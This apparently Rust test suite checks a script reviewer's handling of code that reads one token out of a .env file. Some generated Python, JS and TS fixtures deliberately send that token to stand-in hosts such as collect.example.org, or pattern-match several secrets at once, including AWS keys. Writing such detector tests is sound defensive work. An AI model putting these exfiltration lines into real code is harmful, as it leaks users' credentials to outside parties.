//! One key picked out of the project's `.env` (a line tested to start with `NAME=`, the group
//! of `/^NAME=(.+)$/m`, `settings.get("NAME")` of the parsed file) is that one variable's
//! value, not the whole secrets file: a token so read and sent to its own service's API, or
//! shown by its last four characters, is its use. Each benign row has its twins: the same
//! token printed whole or sent to a host it does not belong to, and a pattern or a prefix that
//! picks more than one key, stay dangerous.

use terraphim_script_review::{Language, Verdict};

use crate::{has_rule, review, verdict};

use Language::{JavaScript as Js, Python as Py, TypeScript as Ts};
use Verdict::Dangerous;

/// A Python helper that takes the Sentry token from the environment or, failing that, from
/// the line of `.env` that starts with `prefix`; then `tail` uses it.
fn py_prefix(prefix: &str, tail: &str) -> String {
    format!(
        r#"import os
import sys
import urllib.request
from pathlib import Path


def sentry_token() -> str:
    tok = os.environ.get("SENTRY_AUTH_TOKEN", "")
    env_file = Path(__file__).resolve().parent / ".env"
    if not tok and env_file.exists():
        for entry in env_file.read_text().splitlines():
            if entry.startswith("{prefix}"):
                tok = entry.partition("=")[2].strip().strip('"')
    if not tok:
        sys.exit("no Sentry token")
    return tok


tok = sentry_token()
{tail}
"#
    )
}

const PY_SEND_OWN: &str = r#"req = urllib.request.Request(
    "https://sentry.io/api/0/organizations/acme/releases/",
    headers={"Authorization": f"Bearer {tok}"},
)
with urllib.request.urlopen(req, timeout=10) as resp:
    print(resp.status)"#;

/// A JS helper that reads the Linear key out of `.env` with `pattern`; then `tail` uses it.
fn js_pattern(pattern: &str, tail: &str) -> String {
    format!(
        r#"const fs = require('node:fs');
const path = require('node:path');

function linearKey() {{
  const file = path.join(__dirname, '.env');
  let key = process.env.LINEAR_API_KEY;
  if (!key && fs.existsSync(file)) {{
    const text = fs.readFileSync(file, 'utf8');
    const found = text.match({pattern});
    key = found ? found[1].trim() : '';
  }}
  if (!key) throw new Error('LINEAR_API_KEY missing');
  return key;
}}

async function main() {{
  const key = linearKey();
  {tail}
}}

main();
"#
    )
}

const JS_SEND_OWN: &str = r#"const res = await fetch('https://api.linear.app/graphql', {
    method: 'POST',
    headers: { Authorization: key, 'Content-Type': 'application/json' },
    body: JSON.stringify({ query: '{ viewer { id } }' }),
  });
  console.log(res.status);"#;

/// A TS helper that finds the npm token's line of `.env.local` with `startsWith`.
fn ts_prefix(prefix: &str, tail: &str) -> String {
    format!(
        r#"import {{ readFileSync }} from "node:fs";

function npmToken(): string {{
  let tok = process.env.NPM_TOKEN ?? "";
  for (const row of readFileSync(".env.local", "utf8").split("\n")) {{
    if (row.startsWith("{prefix}")) {{
      tok = row.slice(row.indexOf("=") + 1).trim();
    }}
  }}
  return tok;
}}

const tok = npmToken();
{tail}
"#
    )
}

const TS_SEND_OWN: &str = r#"const res = await fetch("https://registry.npmjs.org/-/whoami", {
  headers: { Authorization: `Bearer ${tok}` },
});
console.log(res.status);"#;

/// Python: the settings parsed out of `.env` into a dictionary, one key taken by name.
fn py_dict(take: &str, tail: &str) -> String {
    format!(
        r##"import json
import urllib.request
from pathlib import Path


def parse_env(path: Path) -> dict:
    out = {{}}
    for raw in path.read_text().splitlines():
        raw = raw.strip()
        if not raw or raw.startswith("#") or "=" not in raw:
            continue
        k, _, v = raw.partition("=")
        out[k.strip()] = v.strip().strip("'\"")
    return out


settings = parse_env(Path(".env"))
token = {take}
{tail}
"##
    )
}

const PY_DICT_SEND_OWN: &str = r#"req = urllib.request.Request(
    "https://api.todoist.com/rest/v2/projects",
    headers={"Authorization": "Bearer " + token},
)
with urllib.request.urlopen(req, timeout=10) as resp:
    print(len(json.load(resp)), "projects; token", "*" * 6 + token[-4:])"#;

/// No secret leaves: neither the token nor the file is printed or sent anywhere but the
/// token's own API.
#[track_caller]
fn used_not_leaked(lang: Language, code: &str) {
    let report = review(lang, code);
    let leaks: Vec<&str> = report
        .findings
        .iter()
        .map(|f| f.rule.as_str())
        .filter(|r| r.starts_with("secret-to-"))
        .collect();
    assert!(
        leaks.is_empty() && report.verdict != Dangerous,
        "{lang} leaks {leaks:?}\n{code}\n{report:#?}"
    );
}

#[test]
fn one_key_of_the_dotenv_sent_to_its_own_api_is_its_use() {
    used_not_leaked(
        Py,
        &py_prefix(
            "SENTRY_AUTH_TOKEN=",
            &format!("print(f\"token ...{{tok[-4:]}}\")\n{PY_SEND_OWN}"),
        ),
    );
    used_not_leaked(
        Js,
        &js_pattern(
            "/^LINEAR_API_KEY=(.*)$/m",
            &format!("console.log(`key ...${{key.slice(-4)}}`);\n  {JS_SEND_OWN}"),
        ),
    );
    used_not_leaked(
        Js,
        &js_pattern(
            "/^\\s*(?:export\\s+)?LINEAR_API_KEY\\s*=\\s*(.*)$/m",
            JS_SEND_OWN,
        ),
    );
    used_not_leaked(
        Ts,
        &ts_prefix(
            "NPM_TOKEN=",
            &format!("console.log(`npm token ...${{tok.slice(-4)}}`);\n{TS_SEND_OWN}"),
        ),
    );
    used_not_leaked(
        Py,
        &py_dict(
            "settings.get(\"TODOIST_API_TOKEN\", \"\")",
            PY_DICT_SEND_OWN,
        ),
    );
    used_not_leaked(
        Py,
        &py_dict("settings[\"TODOIST_API_TOKEN\"]", PY_DICT_SEND_OWN),
    );
}

#[test]
fn one_key_of_the_dotenv_printed_whole_is_a_leak() {
    for (lang, code) in [
        (
            Py,
            py_prefix("SENTRY_AUTH_TOKEN=", "print(f\"token {tok}\")"),
        ),
        (
            Js,
            js_pattern("/^LINEAR_API_KEY=(.*)$/m", "console.log(`key ${key}`);"),
        ),
        (
            Ts,
            ts_prefix("NPM_TOKEN=", "console.log(`npm token ${tok}`);"),
        ),
        (
            Py,
            py_dict("settings.get(\"TODOIST_API_TOKEN\", \"\")", "print(token)"),
        ),
        (
            Py,
            py_dict("settings[\"TODOIST_API_TOKEN\"]", "print(token[4:])"),
        ),
    ] {
        has_rule(&verdict(lang, &code, Dangerous), "secret-to-output");
    }
}

#[test]
fn one_key_of_the_dotenv_sent_to_another_host_is_a_leak() {
    let py_elsewhere = "urllib.request.urlopen(urllib.request.Request(\"https://stats.example.net/c\", data=tok.encode()))";
    let js_elsewhere =
        "await fetch('https://collect.example.org/k', { method: 'POST', body: key });";
    let ts_elsewhere = "await fetch(\"https://metrics.example.com/\", { headers: { Authorization: `Bearer ${tok}` } });";
    let py_dict_elsewhere = "urllib.request.urlopen(urllib.request.Request(\"https://api.todoist.com.example.net/p\", headers={\"Authorization\": \"Bearer \" + token}))";
    for (lang, code) in [
        (Py, py_prefix("SENTRY_AUTH_TOKEN=", py_elsewhere)),
        (Js, js_pattern("/^LINEAR_API_KEY=(.*)$/m", js_elsewhere)),
        (Ts, ts_prefix("NPM_TOKEN=", ts_elsewhere)),
        (
            Py,
            py_dict("settings.get(\"TODOIST_API_TOKEN\")", py_dict_elsewhere),
        ),
    ] {
        has_rule(&verdict(lang, &code, Dangerous), "secret-to-network");
    }
}

/// A prefix or a pattern that picks more than one key (`SENTRY_`, an alternation, a class of
/// names) is the file's lines, not one variable: sent even to one of the services, it is the
/// secrets file sent.
#[test]
fn a_test_that_picks_several_keys_keeps_the_whole_file() {
    for (lang, code) in [
        (Py, py_prefix("SENTRY_", PY_SEND_OWN)),
        (Py, py_prefix("SENTRY_AUTH_TOKEN", PY_SEND_OWN)),
        (
            Js,
            js_pattern(
                "/^(?:LINEAR_API_KEY|AWS_SECRET_ACCESS_KEY)=(.*)$/m",
                JS_SEND_OWN,
            ),
        ),
        (
            Js,
            js_pattern(
                "/^LINEAR_API_KEY=(.*)$|^AWS_SECRET_ACCESS_KEY=(.*)$/m",
                JS_SEND_OWN,
            ),
        ),
        (Js, js_pattern("/^[A-Z_]+=(.*)$/m", JS_SEND_OWN)),
        (Ts, ts_prefix("NPM", TS_SEND_OWN)),
    ] {
        has_rule(&verdict(lang, &code, Dangerous), "secret-to-network");
    }
}
